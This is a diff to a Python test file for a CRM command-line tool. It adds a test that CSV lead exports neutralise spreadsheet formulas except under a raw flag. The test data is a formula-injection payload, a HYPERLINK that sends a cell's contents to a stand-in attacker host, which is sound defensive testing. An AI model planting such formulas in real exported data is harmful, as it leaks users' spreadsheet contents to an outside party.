@@ -185,3 +185,12 @@ def test_every_help_reads_well_at_80_columns(
 def test_db_status_says_baseline_or_applied_once(crm_db: Database) -> None:
     text = crm_db.cli("db", "status").stdout
     assert "(applied)" not in text and "applied 000_original_schema" in text, text
+
+
+def test_cli_export_neutralises_formulas_unless_raw(crm_db: Database) -> None:
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    assert crm_db.cli("leads", "create", "--first-name", evil, "--source", "csv").returncode == 0
+    safe = crm_db.cli("leads", "export", "-", "--source", "csv")
+    assert safe.returncode == 0 and "'=HYPERLINK" in safe.stdout, safe.stdout
+    raw = crm_db.cli("leads", "export", "-", "--source", "csv", "--raw")
+    assert raw.returncode == 0 and "'=HYPERLINK" not in raw.stdout and "=HYPERLINK" in raw.stdout
